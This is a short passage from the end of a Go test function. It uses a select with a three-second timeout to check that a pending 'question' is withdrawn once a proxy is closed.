		case <-withdrawn:
		case <-time.After(3 * time.Second):
			t.Errorf("closing the proxy=%v: the question stayed up", closeProxy)
		}
	}
}
